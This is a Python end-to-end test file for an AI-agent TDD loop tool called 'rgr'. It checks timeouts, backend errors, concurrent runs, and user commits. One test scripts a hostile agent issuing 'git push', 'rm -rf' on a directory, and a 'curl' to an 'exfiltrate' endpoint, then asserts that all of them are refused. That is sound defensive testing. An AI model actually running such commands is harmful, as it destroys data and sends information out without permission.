"""Faults other than a kill, through the real claude and a scripted model: hangs, backend
failures that stop a run, another writer on the notes ref, a second rgr, denied tool
calls, and commits a user made after an interruption.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import pytest
from kata import (
    IMPL_1,
    NOTES,
    TEST_FILE_1,
    KataModel,
    assert_no_canary,
    git,
    make_project,
    plan,
    red,
    refactor,
    rgr,
    rgr_env,
    start_rgr,
)

from rgr.base.processes import REPO_MARK_VAR
from rgr.fake_model import CutStream, FakeModelServer, Hang, HttpError, SessionScript, bash

pytestmark = pytest.mark.e2e


def _configure(repo: Path, **values: int) -> None:
    text = (repo / "tdd.toml").read_text()
    for key, value in values.items():
        lines = [ln for ln in text.splitlines() if not ln.startswith(f"{key} =")]
        text = "\n".join([*lines, f"{key} = {value}"]) + "\n"
    (repo / "tdd.toml").write_text(text)
    git(repo, "commit", "-qam", "rgr settings for this test")


def _last_note(repo: Path, rev: str = "HEAD") -> dict[str, object]:
    return dict(json.loads(git(repo, "notes", f"--ref={NOTES}", "show", rev)))


def _processes_working_in(repo: Path) -> list[str]:
    """Live processes whose working directory is in ``repo`` (agents, tools, test runs)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if Path(os.readlink(entry / "cwd")).is_relative_to(repo):
                    found.append(entry.name)
            except OSError:
                continue
    return found


def _marked_processes(repo: Path) -> list[str]:
    needle = f"{REPO_MARK_VAR}={repo}".encode()
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if needle in (entry / "environ").read_bytes().split(b"\0"):
                    found.append(entry.name)
            except OSError:
                continue
    return found


def test_hung_agents_are_killed_at_the_timeout_and_retried_while_a_second_rgr_is_refused(
        tmp_path: Path) -> None:
    repo = make_project(tmp_path / "kata")
    _configure(repo, agent_timeout=6)
    never_answers = SessionScript([Hang(300)], name="model-hangs")
    stuck_tool = SessionScript([bash("sleep 300"), Hang(300)], name="tool-hangs")
    scripts = [never_answers, stuck_tool, plan(0, first=True, total=1)]
    with FakeModelServer(scripts) as server:
        env = rgr_env(tmp_path / "home", server.url)
        first = start_rgr(["run", "--yes", "--skip-preflight", "--max-phases", "1",
                           "slugify"], repo, env)
        deadline = time.monotonic() + 60
        while not server.sessions:
            assert time.monotonic() < deadline and first.poll() is None
            time.sleep(0.1)
        second = rgr(["resume", "--yes", "--skip-preflight"], repo, env)
        output, _ = first.communicate(timeout=120)
        assert first.returncode == 0, output
        assert server.errors == []
    assert second.returncode == 1
    assert "another rgr is working on this repository: pid" in second.stderr
    assert f"pid {first.pid}" in second.stderr
    assert output.count("did not finish within 6s") == 2, output
    note = _last_note(repo)
    assert note["phase"] == "PLAN" and note["retryCount"] == 2
    assert _marked_processes(repo) == []  # the sleeping tool went with its session
    assert _processes_working_in(repo) == []


def test_a_hanging_test_run_is_killed_and_reported(tmp_path: Path) -> None:
    repo = make_project(tmp_path / "kata")
    _configure(repo, command_timeout=5)
    hanging = TEST_FILE_1.replace(
        "    from slug import slugify", "    import time\n    time.sleep(300)\n"
        "    from slug import slugify")
    scripts = [plan(0, first=True, total=1), red(hanging, first=True),
               red(TEST_FILE_1, first=True)]
    with FakeModelServer(scripts) as server:
        done = rgr(["run", "--yes", "--skip-preflight", "--max-phases", "2", "slugify"], repo,
                   rgr_env(tmp_path / "home", server.url))
        assert server.errors == []
    assert done.returncode == 0, done.stdout + done.stderr
    assert "rejected: test-timeout" in done.stdout
    attempt = git(repo, "for-each-ref", "--format=%(refname)", "refs/rgr/attempts/").split()
    assert json.loads(git(repo, "notes", f"--ref={NOTES}", "show", attempt[0]))[
        "errorDetails"]["type"] == "test-timeout"
    assert _last_note(repo)["phase"] == "RED"
    assert _processes_working_in(repo) == []  # the hanging pytest was killed


def test_a_stream_cut_mid_session_is_absorbed_by_claudes_retry(tmp_path: Path) -> None:
    repo = make_project(tmp_path / "kata")
    planned = plan(0, first=True, total=1)
    cut = SessionScript([planned.steps[0], CutStream(), *planned.steps[1:]], name="cut")
    with FakeModelServer([cut]) as server:
        done = rgr(["run", "--yes", "--skip-preflight", "--max-phases", "1", "slugify"], repo,
                   rgr_env(tmp_path / "home", server.url))
        steps = [r.step for r in server.requests]
    assert done.returncode == 0, done.stdout + done.stderr
    assert "cut_stream" in steps
    assert _last_note(repo)["retryCount"] == 0


@pytest.mark.parametrize(("failure", "words"), [
    (HttpError(401, "authentication_error", "invalid x-api-key", times=5), "not logged in"),
    (HttpError(400, "invalid_request_error", "prompt is too long", times=5), "HTTP 400"),
])
def test_failures_no_retry_can_fix_stop_resumably(tmp_path: Path, failure: HttpError,
                                                  words: str) -> None:
    repo = make_project(tmp_path / "kata")
    env = rgr_env(tmp_path / "home", "")
    with FakeModelServer([plan(0, first=True, total=1), SessionScript([failure])]) as server:
        env["ANTHROPIC_BASE_URL"] = server.url
        done = rgr(["run", "--yes", "--skip-preflight", "slugify"], repo, env)
        sessions = len(server.sessions)
    assert done.returncode == 1
    assert words in done.stderr
    assert sessions == 2  # RED was not retried
    note = _last_note(repo)
    assert note["phase"] == "PLAN" and words in str(note["error"])
    status = json.loads(rgr(["status", "--json"], repo, env).stdout)
    assert status["resumable"] is True
    if words != "not logged in":
        return  # resuming is one path whatever stopped the run: the first case plays it
    # The resume plays the phase that failed, verified on top of the stopped handoff, and
    # stops: a resume played on to COMPLETE is in every run already, after a kill -9
    # (tests/e2e/test_kill_anywhere.py at attempt:kept@1 on claude, and
    # tests/e2e/test_tdd_loop.py::test_killed_mid_phase_then_resume_finishes); the three
    # phases more cost about 8 s here.
    stopped = git(repo, "rev-parse", "HEAD").strip()
    with FakeModelServer([red(TEST_FILE_1, first=True)]) as server:
        env["ANTHROPIC_BASE_URL"] = server.url
        done = rgr(["resume", "--yes", "--skip-preflight", "--max-phases", "1"], repo, env)
        assert server.errors == [] and server.remaining == 0
    assert done.returncode == 0, done.stdout + done.stderr
    note = _last_note(repo)
    assert note["phase"] == "RED" and not note.get("error"), note
    assert git(repo, "rev-parse", "HEAD~1").strip() == stopped


def test_denied_tool_calls_are_refused_logged_and_change_nothing(tmp_path: Path) -> None:
    repo = make_project(tmp_path / "kata")
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    git(repo, "remote", "add", "origin", str(remote))
    victim = tmp_path / "keep-me"
    victim.mkdir()
    planned = plan(0, first=True, total=1)
    hostile = SessionScript([
        bash("git push origin HEAD"), bash(f"rm -rf {victim}"),
        bash("curl -s http://127.0.0.1:9/exfiltrate"), *planned.steps], name="hostile")
    with FakeModelServer([hostile]) as server:
        done = rgr(["run", "--yes", "--skip-preflight", "--max-phases", "1", "slugify"], repo,
                   rgr_env(tmp_path / "home", server.url))
        assert server.errors == []
    assert done.returncode == 0, done.stdout + done.stderr
    assert "the agent was refused 3 tool call(s)" in done.stdout
    for command in ("git push origin HEAD", f"rm -rf {victim}", "curl -s"):
        assert command in done.stdout
    assert victim.is_dir()
    assert subprocess.run(["git", "--git-dir", str(remote), "rev-parse", "--verify", "-q",
                           "HEAD"], capture_output=True).returncode != 0  # nothing pushed
    agent = _last_note(repo)["agent"]
    assert isinstance(agent, dict) and agent["permissionDenials"] == 3
    assert_no_canary(repo, tmp_path / "home", done.stdout, done.stderr)


def test_another_writer_moving_the_notes_ref_during_a_run(tmp_path: Path) -> None:
    repo = make_project(tmp_path / "kata")
    initial = git(repo, "rev-parse", "main").strip()
    foreign: list[int] = []

    def meddle(_record: object) -> None:
        # Another tool writes a note of its own while an agent works.
        foreign.append(len(foreign))
        subprocess.run(["git", "notes", f"--ref={NOTES}", "add", "-f", "-m",
                        json.dumps({"other": len(foreign)}), initial], cwd=repo, check=True,
                       capture_output=True)

    with FakeModelServer(choose=KataModel(tests=1, stumble=False),
                         on_request=meddle) as server:
        done = rgr(["run", "--yes", "--skip-preflight", "slugify"], repo,
                   rgr_env(tmp_path / "home", server.url))
        assert server.errors == []
    assert done.returncode == 0, done.stdout + done.stderr
    assert len(foreign) >= 5
    phases = [json.loads(n)["phase"] for n in git(
        repo, "log", f"--notes={NOTES}", "--format=%N", "main..HEAD").split("\n\n") if n.strip()]
    assert phases == ["COMPLETE", "REFACTOR", "GREEN", "RED", "PLAN", "REFACTOR"]
    assert json.loads(git(repo, "notes", f"--ref={NOTES}", "show", initial)) == {
        "other": len(foreign)}


def test_user_commits_after_an_interruption_are_never_moved_without_a_choice(
        tmp_path: Path) -> None:
    """A commit the user made on the branch after a stop is refused, set aside under a ref,
    or adopted; never moved without that choice. One repository plays both choices in
    turn (a set-aside after PLAN, then an adoption after RED), which one run and three
    resumes reach: as two tests they took two runs, one of two phases, and a resume played
    on to COMPLETE (a resume to COMPLETE is tests/e2e/test_kill_anywhere.py's, in every
    run)."""
    repo = make_project(tmp_path / "kata")
    env = rgr_env(tmp_path / "home", "")
    with FakeModelServer([plan(0, first=True, total=1)]) as s:
        env["ANTHROPIC_BASE_URL"] = s.url
        done = rgr(["run", "--yes", "--skip-preflight", "--max-phases", "1", "slugify"],
                   repo, env)
    assert done.returncode == 0, done.stdout + done.stderr
    # Set aside: the user's own commit on the PLAN handoff is kept under a ref.
    noted = git(repo, "rev-parse", "HEAD").strip()
    (repo / "notes.txt").write_text("my own work\n")
    git(repo, "add", "notes.txt")
    git(repo, "commit", "-qm", "wip: my notes")
    mine = git(repo, "rev-parse", "HEAD").strip()
    with FakeModelServer([red(TEST_FILE_1, first=True)]) as s:
        env["ANTHROPIC_BASE_URL"] = s.url
        done = rgr(["resume", "--yes", "--skip-preflight", "--unnoted", "set-aside",
                    "--max-phases", "1"], repo, env)
        assert s.errors == []
    assert done.returncode == 0, done.stdout + done.stderr
    kept = git(repo, "for-each-ref", "--format=%(refname) %(objectname)",
               "refs/rgr/attempts/").split()
    assert kept[1] == mine and "unnoted" in kept[0]
    assert git(repo, "rev-parse", "HEAD~1").strip() == noted  # RED on top of the handoff
    assert _last_note(repo)["phase"] == "RED"
    # Refused, then adopted: the user makes the test pass by hand, with a commit rgr did
    # not make.
    (repo / "slug.py").write_text(IMPL_1)
    git(repo, "add", "slug.py")
    git(repo, "commit", "-qm", "feat: slugify by hand")
    mine = git(repo, "rev-parse", "HEAD").strip()
    refused = rgr(["resume", "--yes", "--skip-preflight"], repo, env)
    assert refused.returncode == 1
    assert "were not made by an rgr agent" in refused.stderr
    assert "--unnoted adopt" in refused.stderr and "--unnoted set-aside" in refused.stderr
    assert git(repo, "rev-parse", "HEAD").strip() == mine  # untouched
    # The run goes on after the adopted GREEN (one phase: REFACTOR).
    with FakeModelServer([refactor()]) as s:
        env["ANTHROPIC_BASE_URL"] = s.url
        done = rgr(["resume", "--yes", "--skip-preflight", "--unnoted", "adopt",
                    "--max-phases", "1"], repo, env)
        assert s.errors == [] and s.remaining == 0
    assert done.returncode == 0, done.stdout + done.stderr
    assert json.loads(git(repo, "notes", f"--ref={NOTES}", "show", mine))["phase"] == "GREEN"
    assert git(repo, "rev-parse", "HEAD~1").strip() == mine
    assert _last_note(repo)["phase"] == "REFACTOR"
